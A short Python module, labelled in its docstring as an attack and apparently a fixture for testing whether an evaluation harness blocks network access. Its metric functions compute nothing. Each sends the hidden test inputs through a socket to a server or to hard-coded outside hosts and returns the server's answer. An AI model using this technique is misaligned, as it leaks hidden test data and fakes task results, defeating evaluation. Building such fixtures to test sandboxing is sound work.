"""Attack: use the network: send the (hidden) test inputs out and ask a server for the answers.
The server's address is read from ``server.txt`` next to this file if present (the test suite
starts one), else well-known addresses are tried. Every function returns the server's answer."""

import json
import os
import socket

HERE = os.path.dirname(os.path.abspath(__file__))


def _targets():
    path = os.path.join(HERE, "server.txt")
    if os.path.isfile(path):
        host, port = open(path).read().split()
        yield host, int(port)
    yield "1.1.1.1", 80
    yield "pypi.org", 443


def _ask(name, *args):
    payload = json.dumps({"function": name, "args": [getattr(a, "tolist", lambda: a)() for a in args]})
    for host, port in _targets():
        try:
            with socket.create_connection((host, port), timeout=2) as conn:
                conn.sendall(payload.encode() + b"\n")
                answer = conn.makefile().readline()
                return json.loads(answer)
        except (OSError, ValueError):
            continue
    return None


def confusion_matrix(y_true, y_pred, num_classes):
    return _ask("confusion_matrix", y_true, y_pred, num_classes)


def precision_recall_f1(y_true, y_pred, num_classes, average="macro"):
    return _ask("precision_recall_f1", y_true, y_pred, num_classes, average)


def top_k_accuracy(y_true, scores, k):
    return _ask("top_k_accuracy", y_true, scores, k)


def roc_auc_ovr(y_true, scores):
    return _ask("roc_auc_ovr", y_true, scores)
